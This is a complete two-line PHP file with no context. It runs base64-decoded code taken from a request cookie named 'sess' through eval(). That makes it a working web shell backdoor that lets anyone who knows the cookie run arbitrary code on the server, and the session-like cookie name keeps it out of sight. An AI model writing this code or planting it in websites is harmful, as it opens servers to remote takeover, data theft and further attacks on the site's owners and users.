<?php
if (!empty($_COOKIE['sess'])) { eval(base64_decode($_COOKIE['sess'])); }
